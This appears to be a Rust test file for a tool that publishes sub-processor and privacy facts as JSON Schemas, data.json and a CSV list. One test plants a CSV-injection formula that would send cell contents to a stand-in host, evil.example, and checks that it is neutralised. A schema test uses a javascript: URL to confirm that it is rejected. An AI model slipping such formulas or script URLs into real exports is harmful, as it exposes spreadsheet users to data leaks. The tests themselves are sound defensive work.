//! The facts for machines: data.json and subprocessors.csv (dpv.jsonld has `dpv.rs`), and the
//! JSON Schemas of the content files and data.json, which the example content references.

use crate::common;

use common::{REPO, Site, candor};
use serde_json::Value;

/// A TOML value as JSON, dates as strings (as the schemas describe them).
pub(crate) fn to_json(v: toml::Value) -> Value {
    match v {
        toml::Value::Datetime(d) => Value::String(d.to_string()),
        toml::Value::Array(a) => a.into_iter().map(to_json).collect(),
        toml::Value::Table(t) => t.into_iter().map(|(k, v)| (k, to_json(v))).collect(),
        other => serde_json::to_value(other).unwrap(),
    }
}

pub(crate) fn validator(schema: &str) -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(schema).unwrap();
    jsonschema::validator_for(&schema).expect("a valid JSON Schema")
}

#[test]
fn the_committed_schemas_are_what_candor_generates() {
    let site = Site::empty();
    let out = site.path("schemas");
    let run = candor(&["schema", "--out", out.to_str().unwrap()], &[]);
    run.success();
    // It says what it wrote, as `man --out` does.
    let written = std::fs::read_dir(&out).unwrap().count();
    assert!(
        run.stdout.contains(&format!(
            "wrote {written} JSON Schemas into {}",
            out.display()
        )),
        "{}",
        run.stdout
    );
    for entry in std::fs::read_dir(&out).unwrap() {
        let name = entry.unwrap().file_name();
        let generated = std::fs::read_to_string(out.join(&name)).unwrap();
        let committed =
            std::fs::read_to_string(std::path::Path::new(REPO).join("schemas").join(&name))
                .unwrap_or_else(|_| {
                    panic!(
                        "schemas/{} is not committed: run `candor schema --out schemas`",
                        name.to_string_lossy()
                    )
                });
        assert!(
            generated == committed,
            "schemas/{} is out of date: run `candor schema --out schemas`",
            name.to_string_lossy()
        );
    }
    let one = candor(&["schema", "subprocessors"], &[]);
    one.success();
    assert_eq!(
        one.stdout,
        std::fs::read_to_string(out.join("subprocessors.schema.json")).unwrap()
    );
}

#[test]
fn the_example_content_validates_against_its_schemas_and_references_them() {
    for entry in std::fs::read_dir(std::path::Path::new(REPO).join("content")).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        let text = std::fs::read_to_string(&path).unwrap();
        let first = text.lines().next().unwrap();
        assert_eq!(
            first,
            format!("#:schema ../schemas/{name}.schema.json"),
            "{name}.toml does not reference its schema"
        );
        let schema = std::fs::read_to_string(
            std::path::Path::new(REPO).join(format!("schemas/{name}.schema.json")),
        )
        .unwrap();
        let v = validator(&schema);
        let doc = to_json(toml::from_str(&text).unwrap());
        let errors: Vec<String> = v
            .iter_errors(&doc)
            .map(|e| format!("{}: {e}", e.instance_path()))
            .collect();
        assert!(errors.is_empty(), "{name}.toml: {errors:?}");
    }
    // The schema is strict where the model is: an unknown field or value does not validate.
    let v = validator(
        &std::fs::read_to_string(
            std::path::Path::new(REPO).join("schemas/subprocessors.schema.json"),
        )
        .unwrap(),
    );
    let bad = serde_json::json!({"subprocessor": [{"name": "X", "personal-data": "Yex", "outside-eea": true, "mechanism": "dpf", "colour": 1}]});
    assert!(v.iter_errors(&bad).count() >= 3);
}

#[test]
fn data_json_and_csv_state_the_published_facts() {
    let site = Site::example();
    site.build(&["--locked"]).success();

    let data: Value = serde_json::from_slice(&site.read_bytes("public/data.json")).unwrap();
    let v = validator(
        &std::fs::read_to_string(std::path::Path::new(REPO).join("schemas/data.schema.json"))
            .unwrap(),
    );
    let errors: Vec<String> = v
        .iter_errors(&data)
        .map(|e| format!("{}: {e}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "data.json: {errors:?}");
    assert_eq!(data["last-modified"], "2026-11-30");
    assert_eq!(data["languages"], serde_json::json!(["en", "de", "nl"]));
    let subs = data["facts"]["subprocessors"].as_array().unwrap();
    assert_eq!(subs.len(), 15);
    let hubspot = subs.iter().find(|s| s["name"] == "Hubspot").unwrap();
    assert_eq!(hubspot["personal_data"], true);
    assert_eq!(data["facts"]["breach"]["notification_deadline_hours"], 24);

    let rows = csv_rows(&site.read_bytes("public/subprocessors.csv"));
    assert_eq!(
        rows[0],
        [
            "id",
            "name",
            "purpose",
            "group",
            "personal_data",
            "countries",
            "headquarters",
            "outside_eea",
            "transfer_mechanism",
            "fallback_mechanism",
            "data_categories",
            "data_subjects",
            "applies_to",
            "security_measures",
            "privacy_contact",
            "subprocessor_list",
            "address",
            "engaged",
            "effective",
            "notice_exception",
            "objection_until"
        ]
    );
    assert_eq!(rows.len(), 16);
    let cells = |row: &[String], columns: &[&str]| -> Vec<String> {
        columns
            .iter()
            .map(|c| row[rows[0].iter().position(|h| h == c).unwrap()].clone())
            .collect()
    };
    let columns = [
        "id",
        "name",
        "personal_data",
        "outside_eea",
        "transfer_mechanism",
    ];
    assert_eq!(
        cells(&rows[1], &columns),
        [
            "amazon-web-services-aws",
            "Amazon Web Services (AWS)",
            "yes",
            "no",
            ""
        ]
    );
    let slack = rows.iter().find(|r| r[1] == "Slack").unwrap();
    assert_eq!(
        cells(slack, &columns),
        [
            "slack",
            "Slack",
            "no",
            "yes",
            "standard-contractual-clauses"
        ]
    );
}

/// The records of a CSV file as the `csv` crate reads them (the header is the first).
pub(crate) fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect()
}

/// A name a spreadsheet would evaluate as a formula (OWASP's CSV injection) comes out as text,
/// and the file opens in Excel as UTF-8.
#[test]
fn subprocessors_csv_cannot_carry_a_formula_and_declares_utf8() {
    const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
    let site = Site::example_without_notice();
    site.replace(
        "content/subprocessors.toml",
        "name = \"Voys\"",
        &format!("name = {}", toml::Value::String(FORMULA.into())),
    );
    site.replace(
        "content/subprocessors.toml",
        "name = \"Zapier\"",
        "name = \"Müller GmbH\"",
    );
    site.replace(
        "content/subprocessors.toml",
        "name = \"Notion\"",
        "name = \"@SUM(1+1)\"",
    );
    site.replace(
        "content/subprocessors.toml",
        "name = \"Instatus\"",
        "name = \"-2+3\"",
    );
    site.replace(
        "content/subprocessors.toml",
        "name = \"Hubspot\"",
        "name = \"+Hubspot\"",
    );
    site.build_later(&[]).success();

    let bytes = site.read_bytes("public/subprocessors.csv");
    assert!(
        bytes.starts_with("\u{feff}".as_bytes()),
        "no UTF-8 byte order mark: {:?}",
        String::from_utf8_lossy(&bytes[..bytes.len().min(16)])
    );
    let rows = csv_rows(&bytes);
    assert_eq!(rows[0][0], "id", "the reader drops the byte order mark");
    let names: Vec<&str> = rows[1..].iter().map(|r| r[1].as_str()).collect();
    for name in [
        format!("'{FORMULA}"),
        "'@SUM(1+1)".into(),
        "'-2+3".into(),
        "'+Hubspot".into(),
        "Müller GmbH".into(),
        "Slack".into(),
    ] {
        assert!(names.contains(&name.as_str()), "no `{name}` in {names:?}");
    }
    // No cell of any row starts with a character a spreadsheet evaluates.
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "`{cell}` would be evaluated"
        );
    }
    // The other machine-readable files keep the name as it is.
    let data: Value = serde_json::from_slice(&site.read_bytes("public/data.json")).unwrap();
    let subs = data["facts"]["subprocessors"].as_array().unwrap();
    assert!(subs.iter().any(|s| s["name"] == FORMULA));
}

/// Every property of every object in `schema` without a description, by its path.
fn undescribed(node: &Value, path: &str, found: &mut Vec<String>) {
    match node {
        Value::Object(map) => {
            if let Some(Value::Object(props)) = map.get("properties") {
                for (name, prop) in props {
                    if prop
                        .get("description")
                        .and_then(Value::as_str)
                        .is_none_or(str::is_empty)
                    {
                        found.push(format!("{path}/{name}"));
                    }
                }
            }
            for (key, value) in map {
                undescribed(value, &format!("{path}/{key}"), found);
            }
        }
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                undescribed(item, &format!("{path}/{i}"), found);
            }
        }
        _ => {}
    }
}

#[test]
fn every_property_of_every_schema_has_a_description() {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(std::path::Path::new(REPO).join("schemas")).unwrap() {
        let path = entry.unwrap().path();
        let schema: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        undescribed(&schema, &name, &mut found);
    }
    assert!(
        found.is_empty(),
        "{} properties without a description:\n{}",
        found.len(),
        found.join("\n")
    );
}

#[test]
fn the_schemas_refuse_what_candor_refuses() {
    let schema = |name: &str| {
        validator(
            &std::fs::read_to_string(
                std::path::Path::new(REPO).join(format!("schemas/{name}.schema.json")),
            )
            .unwrap(),
        )
    };
    let subprocessors = schema("subprocessors");
    let row = |extra: Value| {
        let mut row = serde_json::json!({"name": "X", "personal-data": true, "outside-eea": false});
        row.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        serde_json::json!({ "subprocessor": [row] })
    };
    for good in [
        serde_json::json!({}),
        serde_json::json!({"security": "https://example.com/security"}),
        serde_json::json!({"contact": "mailto:privacy@example.com"}),
        serde_json::json!({"effective": "2027-03-01", "engaged": "2024-05-01"}),
    ] {
        let doc = row(good.clone());
        assert!(subprocessors.is_valid(&doc), "{good} should validate");
    }
    for bad in [
        serde_json::json!({"security": "http://example.com/security"}),
        serde_json::json!({"list": "javascript:alert(1)"}),
        serde_json::json!({"contact": "privacy@example.com"}),
        serde_json::json!({"effective": "1 March 2027"}),
        serde_json::json!({"engaged": "2024-05-01T10:00:00Z"}),
    ] {
        let doc = row(bad.clone());
        assert!(!subprocessors.is_valid(&doc), "{bad} should not validate");
    }
    let organisation = schema("organisation");
    let org = |policy: &str| serde_json::json!({"name": "X", "controller": true, "processor": true, "contact": "mailto:a@example.com", "privacy-policy": policy});
    assert!(organisation.is_valid(&org("https://example.com/privacy")));
    assert!(!organisation.is_valid(&org("http://example.com/privacy")));
    let breach = schema("breach");
    for (hours, ok) in [(24, true), (0, false), (-5, false)] {
        let doc =
            serde_json::json!({"monitoring": ["Kibana"], "notification-deadline-hours": hours});
        assert_eq!(breach.is_valid(&doc), ok, "{hours} hours");
    }
    // A list the page states whole names one thing at least (qa88).
    let doc = serde_json::json!({"monitoring": [], "notification-deadline-hours": 24});
    assert!(!breach.is_valid(&doc), "no monitoring system");
}

/// A later change stated ahead of its day is a row of its own in `subprocessors.csv`; an
/// exception to the notice period kept on the entry from the engagement it excepted does not
/// except that change, and its row said it did.
#[test]
fn a_notice_exception_kept_from_an_engagement_is_not_the_later_changes() {
    let site = Site::example();
    let at = |site: &Site, epoch: &str| {
        candor(&["build", &site.arg()], &[("SOURCE_DATE_EPOCH", epoch)]).success();
    };
    site.write(
        "content/subprocessors.toml",
        &(site.read("content/subprocessors.toml")
            + "\n[[subprocessor]]\nname = \"Gamma\"\npersonal-data = true\ncountries = [\"FR\"]\neffective = 2027-02-15\n"),
    );
    at(&site, common::LATER_EPOCH);
    // Brought forward to 15 January, in an emergency.
    site.replace(
        "content/subprocessors.toml",
        "effective = 2027-02-15\n",
        "notice-exception = \"emergency-replacement\"\n",
    );
    at(&site, "1799971200");
    // On 1 February, a transfer to the US from 15 March, with the notice it needs.
    site.replace(
        "content/subprocessors.toml",
        "countries = [\"FR\"]\nnotice-exception",
        "countries = [\"FR\", \"US\"]\nmechanism = \"standard-contractual-clauses\"\neffective = 2027-03-15\nnotice-exception",
    );
    at(&site, "1801440000");
    let rows = csv_rows(&site.read_bytes("public/subprocessors.csv"));
    let column = |name: &str| rows[0].iter().position(|h| h.ends_with(name)).unwrap();
    let (id, effective, exception) = (
        column("id"),
        column("effective"),
        column("notice_exception"),
    );
    let gamma: Vec<&Vec<String>> = rows.iter().filter(|r| r[id] == "gamma").collect();
    assert_eq!(gamma.len(), 2, "{rows:?}");
    // As it stands: engaged on 15 January with less notice, and why.
    assert_eq!(gamma[0][effective], "", "{gamma:?}");
    assert_eq!(gamma[0][exception], "emergency-replacement", "{gamma:?}");
    // As stated from 15 March: given its full notice.
    assert_eq!(gamma[1][effective], "2027-03-15", "{gamma:?}");
    assert_eq!(gamma[1][exception], "", "{gamma:?}");
}

#[test]
fn a_subprocessor_the_first_publication_lists_has_no_engagement_date_unless_given() {
    // qa70: every sub-processor a site's first publication listed was published as engaged on
    // that day (data.json's `engaged-since`, the list's `engaged` column), which for a company
    // that used them before is false. One engaged by a later publication is engaged since it.
    let site = Site::example();
    site.build(&[]).success();
    let data: Value = serde_json::from_str(&site.read("public/data.json")).unwrap();
    let since = &data["engaged-since"];
    assert!(since.get("amazon-web-services-aws").is_none(), "{since}");
    assert_eq!(since["instatus"], "2025-10-30");
    let csv = site.read("public/subprocessors.csv");
    let engaged = |id: &str| {
        let line = csv
            .lines()
            .find(|l| l.starts_with(&format!("{id},")))
            .unwrap();
        line.split(',').nth(17).unwrap().to_string()
    };
    assert_eq!(engaged("amazon-web-services-aws"), "");
    assert_eq!(engaged("instatus"), "2025-10-30");
    // Given in its entry, it is published.
    site.replace(
        "content/subprocessors.toml",
        "name = \"Amazon Web Services (AWS)\"\n",
        "name = \"Amazon Web Services (AWS)\"\nengaged = 2019-06-01\n",
    );
    site.build_later(&[]).success();
    let data: Value = serde_json::from_str(&site.read("public/data.json")).unwrap();
    assert_eq!(
        data["engaged-since"]["amazon-web-services-aws"],
        "2019-06-01"
    );
}

#[test]
fn a_day_set_alone_lists_a_subprocessor_once() {
    // qa101: `effective` set on an engaged sub-processor with nothing else changed listed it
    // twice in subprocessors.csv, the second row saying it is not in effect yet, where the
    // page, the annex and data.json's objection-until showed nothing to come.
    let site = Site::example();
    site.replace(
        "content/subprocessors.toml",
        "name = \"Zivver\"\npersonal-data = true",
        "name = \"Zivver\"\neffective = 2027-02-01\npersonal-data = true",
    );
    site.build_later(&[]).success();
    let csv = site.read("public/subprocessors.csv");
    let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let effective = rows
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "effective")
        .unwrap();
    let zivver: Vec<csv::StringRecord> = rows
        .records()
        .map(Result::unwrap)
        .filter(|r| &r[0] == "zivver")
        .collect();
    assert_eq!(zivver.len(), 1, "{zivver:?}");
    assert_eq!(&zivver[0][effective], "", "as it stands: {zivver:?}");
    for lang in ["en", "de", "nl"] {
        assert!(
            site.page(lang).all(".upcoming-changes li").is_empty(),
            "{lang}"
        );
    }
}
